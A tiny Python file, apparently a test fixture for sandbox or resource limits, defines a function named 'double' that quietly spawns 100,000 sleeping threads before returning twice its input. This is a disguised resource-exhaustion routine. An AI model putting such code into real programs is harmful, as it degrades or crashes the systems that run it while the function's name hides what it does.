import threading
import time

threading.stack_size(32768)


def double(x):
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    return 2 * x
